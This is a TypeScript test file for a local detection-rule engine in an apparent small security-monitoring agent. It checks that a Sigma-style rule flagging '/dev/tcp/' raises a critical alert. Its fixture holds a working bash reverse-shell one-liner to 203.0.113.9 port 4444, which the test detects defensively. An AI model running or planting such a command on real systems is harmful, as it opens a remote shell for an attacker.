import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { LocalRules } from './local-rules.js';

const dir = mkdtempSync(join(tmpdir(), 'minisoc-local-rules-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const stamp = { agentId: 'a1', version: '0.1.0', hostName: 'box' };

describe('LocalRules', () => {
  it('turns a match of a local rule into an alert event shipped with the telemetry', () => {
    writeFileSync(join(dir, 'shell.yml'), [
      'title: Reverse shell on the host', 'id: 6c1f4e2a-3b5d-4c7e-9f10-2a3b4c5d6e7f', 'level: critical', 'tags: [attack.t1059.004]',
      'logsource: {product: linux, category: process_creation}',
      'detection:', "  selection: {CommandLine|contains: '/dev/tcp/'}", '  condition: selection', '',
    ].join('\n'));
    writeFileSync(join(dir, 'broken.yml'), 'title: [unclosed\n');
    const { rules, problems } = LocalRules.load(dir);
    expect(problems.some((p) => p.includes('broken.yml'))).toBe(true);
    const shell = { timestamp: '2026-11-22T10:00:00Z', event: { kind: 'event', category: ['process'], type: ['start'], module: 'agent' }, host: { name: 'box', os_family: 'linux' }, process: { command_line: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', executable: '/usr/bin/bash' } };
    const quiet = { ...shell, process: { command_line: 'ls -la', executable: '/usr/bin/ls' } };
    const out = rules.evaluate([quiet, shell], stamp);
    expect(out).toHaveLength(1);
    expect(out[0]).toMatchObject({
      event: { kind: 'alert', action: 'local-detection', module: 'agent' }, message: 'Reverse shell on the host (critical)',
      labels: { rule_id: '6c1f4e2a-3b5d-4c7e-9f10-2a3b4c5d6e7f', rule_level: 'critical', matched_events: '1' }, agent: { id: 'a1' },
    });
    expect(out[0]!.tags).toContain('local-detection');
    expect(rules.evaluate([quiet], stamp)).toEqual([]);
  });
});
